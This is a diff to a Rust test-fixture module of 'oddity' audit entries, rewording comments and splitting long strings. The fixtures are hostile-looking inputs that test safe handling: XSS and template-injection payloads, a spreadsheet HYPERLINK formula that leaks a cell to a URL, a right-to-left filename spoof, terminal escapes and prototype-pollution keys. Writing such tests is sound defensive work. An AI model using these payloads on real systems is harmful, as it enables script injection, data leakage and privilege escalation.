@@ -1,14 +1,14 @@
-//! Owns what is legal and looks like an attack or a mistake: whatever shows, exports or compares
-//! entries has to bear it.
+//! Owns valid contents that look like an attack or a mistake. Everything that shows, exports or
+//! compares entries must handle them correctly.
 
 use super::world::Done;
 use domain::entry::Target;
 use domain::json::JsonText;
 
-/// How many there are.
+/// How many oddities there are.
 pub(super) const COUNT: usize = 14;
 
-/// All of them, from markup in a name to a value of a thousand elements.
+/// All oddities, from markup in a name to a value of a thousand elements.
 pub(super) fn all() -> Vec<Done> {
     of_names().into_iter().zip(of_values()).flat_map(|(name, value)| [name, value]).collect()
 }
@@ -24,7 +24,7 @@ fn done(
     Done { action, target, old_value: old.and_then(value), new_value: new.and_then(value) }
 }
 
-/// Names that a page, a spreadsheet, a terminal or a query might take for something else.
+/// Names that a page, a spreadsheet, a terminal or a query could misinterpret.
 fn of_names() -> [Done; COUNT / 2] {
     let longest = "Project of the very long name, ".chars().cycle().take(256).collect::<String>();
     [
@@ -32,9 +32,10 @@ fn of_names() -> [Done; COUNT / 2] {
             "project.create",
             ("project", "prj_markup", "<img src=x onerror=alert(1)>"),
             None,
-            Some(
-                r#"{"description":"</script><script>alert(1)</script>","name":"<img src=x onerror=alert(1)>","tags":["&amp;","{{7*7}}","${7*7}"]}"#,
-            ),
+            Some(concat!(
+                r#"{"description":"</script><script>alert(1)</script>","name":"<img src=x "#,
+                r#"onerror=alert(1)>","tags":["&amp;","{{7*7}}","${7*7}"]}"#,
+            )),
         ),
         done(
             "member.invite",
@@ -44,16 +45,19 @@ fn of_names() -> [Done; COUNT / 2] {
                 r#"=HYPERLINK("https://example.com/?leak="&A1,"Open invoice")"#,
             ),
             None,
-            Some(
-                r#"{"email":"+formula@example.com","name":"=HYPERLINK(\"https://example.com/?leak=\"&A1,\"Open invoice\")","role":"@SUM(1+1)"}"#,
-            ),
+            Some(concat!(
+                r#"{"email":"+formula@example.com","#,
+                r#""name":"=HYPERLINK(\"https://example.com/?leak=\"&A1,\"Open invoice\")","#,
+                r#""role":"@SUM(1+1)"}"#,
+            )),
         ),
         done(
             "member.invite",
             ("member", "mbr_direction", "Anna \u{202e}txt.exe"),
             None,
             Some(
-                "{\"email\":\"anna@example.org\",\"name\":\"Anna \u{202e}txt.exe\",\"role\":\"guest\"}",
+                "{\"email\":\"anna@example.org\",\"name\":\"Anna \u{202e}txt.exe\",\
+                 \"role\":\"guest\"}",
             ),
         ),
         done(
@@ -66,9 +70,10 @@ fn of_names() -> [Done; COUNT / 2] {
             "project.update",
             ("project", "prj_lines", "\t-2+3\r\nSecond line, \"quoted\""),
             Some(r#"{"name":"Lines"}"#),
-            Some(
-                r#"{"name":"\t-2+3\r\nSecond line, \"quoted\"","notes":"\u0000\u001b[31mred\u001b[0m"}"#,
-            ),
+            Some(concat!(
+                r#"{"name":"\t-2+3\r\nSecond line, \"quoted\"","#,
+                r#""notes":"\u0000\u001b[31mred\u001b[0m"}"#,
+            )),
         ),
         done(
             "member.remove",
@@ -85,7 +90,7 @@ fn of_names() -> [Done; COUNT / 2] {
     ]
 }
 
-/// Values that a reader might lose, round, reorder or mistake.
+/// Values that a reader could lose, round, reorder or confuse.
 fn of_values() -> [Done; COUNT / 2] {
     let deepest = format!(r#"{{"mapping":{}"leaf"{}}}"#, "[".repeat(15), "]".repeat(15));
     let elements = |skipped: u32| {
@@ -99,22 +104,26 @@ fn of_values() -> [Done; COUNT / 2] {
         done(
             "settings.update",
             ("settings", "advanced", "Advanced"),
-            Some(
-                r#"{"__proto__":null,"constructor":"Object","hasOwnProperty":true,"toString":"off"}"#,
-            ),
-            Some(
-                r#"{"__proto__":{"isAdmin":true},"constructor":{"prototype":{}},"hasOwnProperty":false,"toString":"on"}"#,
-            ),
+            Some(concat!(
+                r#"{"__proto__":null,"constructor":"Object","hasOwnProperty":true,"#,
+                r#""toString":"off"}"#,
+            )),
+            Some(concat!(
+                r#"{"__proto__":{"isAdmin":true},"constructor":{"prototype":{}},"#,
+                r#""hasOwnProperty":false,"toString":"on"}"#,
+            )),
         ),
         done(
             "settings.update",
             ("settings", "billing", "Billing"),
-            Some(
-                r#"{"credit_limit_cents":18446744073709551615,"epsilon":1e-400,"rate":1.0,"reference":9007199254740992,"zero":0}"#,
-            ),
-            Some(
-                r#"{"credit_limit_cents":18446744073709551616,"epsilon":2e-400,"rate":1.00,"reference":9007199254740993,"zero":-0.0}"#,
-            ),
+            Some(concat!(
+                r#"{"credit_limit_cents":18446744073709551615,"epsilon":1e-400,"rate":1.0,"#,
+                r#""reference":9007199254740992,"zero":0}"#,
+            )),
+            Some(concat!(
+                r#"{"credit_limit_cents":18446744073709551616,"epsilon":2e-400,"rate":1.00,"#,
+                r#""reference":9007199254740993,"zero":-0.0}"#,
+            )),
         ),
         done("project.update", ("project", "prj_kinds", "Kinds"), Some("null"), Some(r#""null""#)),
         done(
